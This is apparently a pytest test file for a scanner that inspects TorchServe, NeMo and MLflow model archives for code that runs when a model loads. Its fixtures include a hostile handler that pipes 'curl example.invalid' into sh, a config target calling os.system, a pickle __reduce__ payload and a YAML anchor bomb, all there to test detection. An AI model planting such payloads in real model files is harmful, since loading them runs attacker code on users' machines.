"""Serving archives: TorchServe .mar (written by torch-model-archiver), NeMo .nemo and MLflow
MLmodel (laid out as those tools write them, with tarfile, torch.save and PyYAML)."""

from __future__ import annotations

import io
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
import torch
import yaml

from checks.findings import Finding, Severity
from checks.weights.imports import ImportPolicy
from checks.weights.scanner import FileScan, scan_path

BENIGN_HANDLER = """\
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def preprocess(self, data):
        return [row.get("body") for row in data]
"""
HOSTILE_HANDLER = """\
import subprocess as sp
from ts.torch_handler.base_handler import BaseHandler


class Handler(BaseHandler):
    def initialize(self, context):
        sp.run(["sh", "-c", "curl example.invalid | sh"])
"""


def scan(path: Path) -> FileScan:
    return scan_path(path, path.name, ImportPolicy.default())


def by_rule(result: FileScan, rule: str) -> list[Finding]:
    return [f for f in result.findings if f.rule == rule]


def worst(result: FileScan) -> Severity:
    return max((f.severity for f in result.findings), default=Severity.INFO)


# ------------------------------------------------------------------ TorchServe


def archive(tmp_path: Path, handler: str, *extra: str, requirements: bool = False) -> Path:
    # The archiver's console script sits beside the interpreter running the tests.
    archiver = shutil.which("torch-model-archiver", path=str(Path(sys.executable).parent))
    if archiver is None:
        pytest.skip("torch-model-archiver is not installed")
    work = tmp_path / "src"
    work.mkdir()
    torch.save({"w": torch.zeros(2, 2)}, work / "model.pt")
    (work / "handler.py").write_text(handler)
    args = [archiver, "--model-name", "m", "--version", "1.0", "--export-path", str(tmp_path)]
    args += ["--serialized-file", str(work / "model.pt"), "--handler", str(work / "handler.py")]
    for name in extra:
        (work / name).write_text("def helper():\n    return 1\n")
    if extra:
        args += ["--extra-files", ",".join(str(work / n) for n in extra)]
    if requirements:
        (work / "requirements.txt").write_text("numpy\n")
        args += ["--requirements-file", str(work / "requirements.txt")]
    subprocess.run(args, check=True, capture_output=True, timeout=120)
    return tmp_path / "m.mar"


def test_mar_handler_is_named_as_code_torchserve_runs(tmp_path: Path) -> None:
    result = scan(archive(tmp_path, BENIGN_HANDLER, "util.py"))
    assert result.format == "torchserve"
    code = {f.location: f for f in by_rule(result, "loader-code")}
    assert "TorchServe (the manifest's handler" in code["handler.py"].message
    assert "TorchServe" in code["util.py"].message
    assert worst(result) == Severity.MEDIUM, [f.message for f in result.findings]


def test_mar_handler_that_starts_processes_is_critical(tmp_path: Path) -> None:
    result = scan(archive(tmp_path, HOSTILE_HANDLER, requirements=True))
    (hit,) = by_rule(result, "code-runs-on-load")
    assert hit.severity == Severity.CRITICAL and "subprocess.run" in hit.message
    assert (hit.location or "").startswith("handler.py, line")
    assert by_rule(result, "torchserve-requirements")[0].severity == Severity.MEDIUM


# ------------------------------------------------------------------ NeMo


def nemo(tmp_path: Path, config: dict[str, object], ckpt: object = None) -> Path:
    buf = io.BytesIO()
    torch.save(ckpt if ckpt is not None else {"w": torch.zeros(2)}, buf)
    members = {
        "./model_config.yaml": yaml.safe_dump(config).encode(),
        "./model_weights.ckpt": buf.getvalue(),
    }
    path = tmp_path / "model.nemo"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


NEMO_CONFIG = {
    "target": "nemo.collections.asr.models.EncDecCTCModel",
    "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "n_layers": 2},
    "optim": {"sched": {"_target_": "torch.optim.lr_scheduler.CosineAnnealingLR"}},
}


def test_nemo_with_nemo_targets_passes(tmp_path: Path) -> None:
    result = scan(nemo(tmp_path, NEMO_CONFIG))
    assert not by_rule(result, "hydra-target")
    assert worst(result) <= Severity.LOW, [f.message for f in result.findings]


def test_nemo_target_outside_nemo_names_the_import(tmp_path: Path) -> None:
    config = {**NEMO_CONFIG, "decoder": {"_target_": "evil_pkg.layers.Decoder"}}
    (hit,) = by_rule(scan(nemo(tmp_path, config)), "hydra-target")
    assert hit.severity == Severity.HIGH and "evil_pkg.layers.Decoder" in hit.message
    assert (hit.location or "").endswith("model_config.yaml, decoder._target_")


def test_nemo_target_that_runs_commands_is_critical(tmp_path: Path) -> None:
    config = {**NEMO_CONFIG, "preprocessor": {"_target_": "os.system", "command": "id"}}
    (hit,) = by_rule(scan(nemo(tmp_path, config)), "hydra-target")
    assert hit.severity == Severity.CRITICAL and "os.system" in hit.message


def test_nemo_weights_member_is_scanned(tmp_path: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return eval, ("1",)

    result = scan(nemo(tmp_path, NEMO_CONFIG, {"hook": Payload()}))
    assert any(
        f.severity == Severity.CRITICAL and "model_weights.ckpt" in (f.location or "")
        for f in result.findings
    )


def test_yaml_anchors_cannot_multiply_the_walk(tmp_path: Path) -> None:
    # Each level names the previous one ten times: 10**8 paths, a handful of mappings.
    doc = "a0: &a0 {_target_: evil.Thing}\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9)
    )
    path = tmp_path / "model_config.yaml"
    path.write_text(doc)
    assert [f.rule for f in scan(path).findings] == ["hydra-target"]


# ------------------------------------------------------------------ MLflow


def mlmodel(tmp_path: Path, flavors: dict[str, object]) -> Path:
    path = tmp_path / "MLmodel"
    path.write_text(yaml.safe_dump({"artifact_path": "model", "flavors": flavors}))
    return path


def test_mlflow_sklearn_pickle_flavour_passes_quietly(tmp_path: Path) -> None:
    flavors = {
        "python_function": {"loader_module": "mlflow.sklearn", "model_path": "model.pkl"},
        "sklearn": {"pickled_model": "model.pkl", "serialization_format": "pickle"},
    }
    assert scan(mlmodel(tmp_path, flavors)).findings == []


def test_mlflow_custom_loader_module_is_named(tmp_path: Path) -> None:
    flavors = {"python_function": {"loader_module": "my_loader", "code": "code"}}
    result = scan(mlmodel(tmp_path, flavors))
    (loader,) = by_rule(result, "mlflow-loader-module")
    assert loader.severity == Severity.HIGH and "imports my_loader" in loader.message
    assert "code on the import path" in by_rule(result, "mlflow-code-paths")[0].message


def test_mlflow_cloudpickle_flavours_are_high(tmp_path: Path) -> None:
    flavors = {
        "python_function": {
            "loader_module": "mlflow.pyfunc.model",
            "python_model": "python_model.pkl",
            "code_paths": ["src/"],
        },
        "sklearn": {"pickled_model": "model.pkl", "serialization_format": "cloudpickle"},
    }
    hits = by_rule(scan(mlmodel(tmp_path, flavors)), "mlflow-pickled-model")
    assert {h.severity for h in hits} == {Severity.HIGH}
    assert any("python_model.pkl with cloudpickle" in h.message for h in hits)
    assert any("model.pkl with cloudpickle" in h.message and "sklearn" in h.message for h in hits)
